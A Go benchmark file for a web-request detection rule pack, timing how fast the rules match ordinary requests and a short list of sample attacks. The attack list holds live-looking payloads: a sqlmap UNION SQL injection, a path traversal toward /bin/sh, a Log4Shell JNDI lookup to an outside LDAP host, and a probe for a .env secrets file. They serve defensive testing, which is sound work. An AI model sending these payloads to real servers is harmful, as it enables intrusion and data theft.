package webrule

import "testing"

// attacks are exploit requests for the benchmarks.
var attacks = []Request{
	{Method: "GET", Path: "/index.html", Query: "id=1%20AND%205944%3D5117%20UNION%20ALL%20SELECT%20NULL%2CNULL--", Version: "HTTP/1.1", Status: 200, UA: "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{Method: "GET", Path: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Version: "HTTP/1.1", Status: 400, UA: "Mozilla/5.0"},
	{Method: "GET", Path: "/", Query: "x=${jndi:ldap://1.2.3.4:1389/a}", Version: "HTTP/1.1", Status: 200, UA: "${jndi:ldap://1.2.3.4:1389/a}"},
	{Method: "GET", Path: "/.env", Version: "HTTP/1.1", Status: 404, UA: "Mozilla/5.0 zgrab/0.x"},
	{Method: "POST", Path: "/wp-login.php", Version: "HTTP/1.1", Status: 200, UA: "Mozilla/5.0"},
}

// BenchmarkMatchBenign is the cost of the full pack on ordinary requests,
// the common case: it must not allocate.
func BenchmarkMatchBenign(b *testing.B) {
	s := Default()
	hits := make([]Hit, 0, 16)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		hits = s.Match(&benign[i%len(benign)], hits[:0])
		i++
	}
}

// BenchmarkMatchAttack is the cost of the full pack on exploit requests,
// where candidates' regular expressions run.
func BenchmarkMatchAttack(b *testing.B) {
	s := Default()
	hits := make([]Hit, 0, 16)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		hits = s.Match(&attacks[i%len(attacks)], hits[:0])
		i++
	}
}

// BenchmarkDefaultCompile is the one-off cost of compiling the pack.
func BenchmarkDefaultCompile(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Parse(embedded); err != nil {
			b.Fatal(err)
		}
	}
}
